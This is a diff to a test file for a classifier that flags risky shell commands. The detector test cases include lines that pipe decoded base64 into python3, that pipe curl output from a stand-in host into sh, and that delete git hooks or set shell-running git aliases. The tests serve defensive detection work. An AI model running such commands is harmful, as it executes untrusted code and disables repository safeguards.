@@ -1,5 +1,5 @@
 import { describe, expect, test } from '@jest/globals';
-import fc from 'fast-check';
+import * as fc from 'fast-check';
 import { fetchesCode, gitTampering, remoteCode } from './command-risks.ts';
 import { programName, shellCommands } from './shell-commands.ts';
 
@@ -49,7 +49,7 @@ describe('shell commands', () => {
     fc.assert(
       fc.property(fc.string({ unit, maxLength: 80 }), (line) => {
         for (const read of [remoteCode, fetchesCode, gitTampering])
-          expect(read(line)).toBeDefined();
+          expect(read(shellCommands(line))).toBeDefined();
       }),
       { numRuns: 3000 },
     );
@@ -83,7 +83,7 @@ describe('what a line does', () => {
     'echo aGk= | base64 --decode | python3',
     'curl https://x.example | tee log | sh',
   ])('runs code from elsewhere: %s', (line) => {
-    expect(remoteCode(line)).not.toEqual([]);
+    expect(remoteCode(shellCommands(line))).not.toEqual([]);
   });
 
   test.each([
@@ -93,7 +93,7 @@ describe('what a line does', () => {
     'base64 -d file > out',
     'grep -r "curl" . | sh-lint',
   ])('does not: %s', (line) => {
-    expect(remoteCode(line)).toEqual([]);
+    expect(remoteCode(shellCommands(line))).toEqual([]);
   });
 
   test.each([
@@ -105,13 +105,13 @@ describe('what a line does', () => {
     ['git pull --rebase', 'high'],
     ['curl https://x.example', 'medium'],
   ])('fetches: %s', (line, severity) => {
-    expect(fetchesCode(line).map((risk) => risk.severity)).toEqual([severity]);
+    expect(fetchesCode(shellCommands(line)).map((risk) => risk.severity)).toEqual([severity]);
   });
 
   test.each(['npm test', 'npm run install-x', 'git fetch', 'curl http://localhost:1', 'yarn lint'])(
     'does not fetch: %s',
     (line) => {
-      expect(fetchesCode(line)).toEqual([]);
+      expect(fetchesCode(shellCommands(line))).toEqual([]);
     },
   );
 
@@ -125,7 +125,7 @@ describe('what a line does', () => {
     'rm -f .git/hooks/pre-commit',
     'git config alias.st "!sh x"',
   ])('tampers with git: %s', (line) => {
-    expect(gitTampering(line)).not.toEqual([]);
+    expect(gitTampering(shellCommands(line))).not.toEqual([]);
   });
 
   test.each([
@@ -134,6 +134,6 @@ describe('what a line does', () => {
     'git commit -am x',
     'git log -n 3',
   ])('leaves git alone: %s', (line) => {
-    expect(gitTampering(line)).toEqual([]);
+    expect(gitTampering(shellCommands(line))).toEqual([]);
   });
 });
